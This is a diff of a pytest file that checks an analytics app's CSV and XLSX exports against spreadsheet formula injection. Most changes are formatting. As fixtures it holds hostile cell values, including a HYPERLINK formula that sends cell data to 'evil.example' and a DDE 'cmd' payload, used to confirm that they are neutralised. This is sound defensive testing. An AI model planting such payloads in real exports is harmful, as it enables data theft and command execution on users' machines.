@@ -11,24 +11,41 @@ import zipfile
 from xml.etree import ElementTree
 
 import pytest
-from test_web_support import XSS_POST, Browser, build_data, make_app
 
 from engagelens.web.exports import FORMULA_START, Col, Table, neutralise, to_csv, to_xlsx
+from test_web_support import XSS_POST, Browser, build_data, make_app
 
-PAGES = ["/w/acme/", "/w/acme/content", f"/w/acme/post?p=instagram&id={XSS_POST}",
-         "/w/acme/listening", "/w/acme/inbox"]
+PAGES = [
+    "/w/acme/",
+    "/w/acme/content",
+    f"/w/acme/post?p=instagram&id={XSS_POST}",
+    "/w/acme/listening",
+    "/w/acme/inbox",
+]
 NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx",
-                                  "=HYPERLINK(\"http://evil\",\"x\")"])
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil","x")']
+)
 def test_dangerous_text_gets_an_apostrophe(text):
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("plain", "plain"), ("a=b", "a=b"), (" =1", " =1"), (-5, -5), (2.5, 2.5), (None, ""),
-    (float("nan"), ""), (True, "true"), ("", "")])
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        (" =1", " =1"),
+        (-5, -5),
+        (2.5, 2.5),
+        (None, ""),
+        (float("nan"), ""),
+        (True, "true"),
+        ("", ""),
+    ],
+)
 def test_safe_values_are_left_alone(value, expected):
     assert neutralise(value) == expected
 
@@ -40,8 +57,10 @@ def read_xlsx(data: bytes) -> tuple[list[list[str]], str]:
         shared: list[str] = []
         if "xl/sharedStrings.xml" in names:
             root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
-            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
-                      for si in root.findall("m:si", NS)]
+            shared = [
+                "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
+                for si in root.findall("m:si", NS)
+            ]
         sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
     rows = []
     for row in ElementTree.fromstring(sheet_xml).iter(f"{{{NS['m']}}}row"):
@@ -59,8 +78,12 @@ def read_xlsx(data: bytes) -> tuple[list[list[str]], str]:
 
 
 def test_library_writers_neutralise_and_keep_numbers():
-    table = Table("t", "T", [Col("text", "=Header"), Col("n", "N", "int")],
-                  rows=[{"text": "=1+2", "n": -3}, {"text": "ok", "n": 4}])
+    table = Table(
+        "t",
+        "T",
+        [Col("text", "=Header"), Col("n", "N", "int")],
+        rows=[{"text": "=1+2", "n": -3}, {"text": "ok", "n": 4}],
+    )
     rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
     assert rows == [["'=Header", "N"], ["'=1+2", "-3"], ["ok", "4"]]
     xrows, xml = read_xlsx(to_xlsx(table))
@@ -86,8 +109,13 @@ def _exports(html: str) -> list[str]:
 
 
 def _assert_safe(cells: list[str], where: str) -> None:
-    bad = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)
-           and not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", c)]
+    bad = [
+        c
+        for c in cells
+        if isinstance(c, str)
+        and c.startswith(FORMULA_START)
+        and not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", c)
+    ]
     assert not bad, (where, bad)
 
 
@@ -102,7 +130,7 @@ def test_every_table_of_every_page_exports_safely(alice):
             r = alice.get(link)
             assert r.status_code == 200, link
             disposition = r.headers["content-disposition"]
-            assert disposition.startswith("attachment; filename=\"acme-")
+            assert disposition.startswith('attachment; filename="acme-')
             assert disposition.isascii()
             if "export=csv" in link:
                 rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
@@ -115,8 +143,13 @@ def test_every_table_of_every_page_exports_safely(alice):
             seen[link] = cells
     everything = [c for cells in seen.values() for c in cells]
     # the hostile comments and the campaign name arrive neutralised, in both formats
-    for neutralised in ["'=HYPERLINK(\"http://evil.example/?\"&A1, \"win\")", "'+SUM(1,2)",
-                        "'-2+3", "'@cmd", "'=cmd|' /C calc'!A0"]:
+    for neutralised in [
+        '\'=HYPERLINK("http://evil.example/?"&A1, "win")',
+        "'+SUM(1,2)",
+        "'-2+3",
+        "'@cmd",
+        "'=cmd|' /C calc'!A0",
+    ]:
         hits = [link for link, cells in seen.items() if neutralised in cells]
         assert any("export=csv" in h for h in hits), neutralised
         assert any("export=xlsx" in h for h in hits), neutralised
@@ -127,8 +160,13 @@ def test_exports_follow_the_filters_and_hold_every_row(alice):
     r = alice.get("/w/acme/content?platform=x&export=csv&table=posts")
     rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
     assert rows and {row["Platform"] for row in rows} == {"x"}
-    everything = list(csv.DictReader(io.StringIO(
-        alice.get("/w/acme/content?export=csv&table=posts").content.decode("utf-8-sig"))))
+    everything = list(
+        csv.DictReader(
+            io.StringIO(
+                alice.get("/w/acme/content?export=csv&table=posts").content.decode("utf-8-sig")
+            )
+        )
+    )
     assert len(everything) == 13 > len(rows)  # 12 seeded posts + the ingested one
 
 
